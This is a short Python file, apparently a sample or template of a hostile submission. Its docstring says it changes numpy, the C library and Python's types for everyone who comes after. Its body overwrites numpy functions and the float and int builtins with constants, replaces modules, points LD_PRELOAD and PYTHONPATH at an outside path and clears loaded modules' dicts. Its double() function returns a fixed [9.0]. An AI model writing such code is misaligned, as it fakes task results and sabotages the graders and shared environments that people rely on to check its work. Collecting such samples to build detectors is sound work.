"""Changes numpy, the C library and Python's own types for everybody who comes after."""
import builtins, ctypes, gc, numpy as np, sys, os, types, site
for name in ("asarray", "array", "add", "multiply", "float64"):
    setattr(np, name, lambda *a, **k: 9.0)
builtins.float = builtins.int = lambda *a: 9
sys.modules["json"] = sys.modules["numpy"] = types.ModuleType("x")
sys.path.insert(0, "@OUTSIDE@"); site.ENABLE_USER_SITE = True
os.environ["PYTHONPATH"] = os.environ["LD_PRELOAD"] = os.environ["PYTHONSTARTUP"] = "@OUTSIDE@"
class D(ctypes.Structure): pass
d = ctypes.cast(id(float.__dict__) + 16 if False else id(1), ctypes.POINTER(ctypes.c_long))
gc.disable(); gc.set_threshold(1); gc.unfreeze()
for o in list(sys.modules.values())[:200]:
    try: o.__dict__.clear()
    except Exception: pass
def double(values): return [9.0]
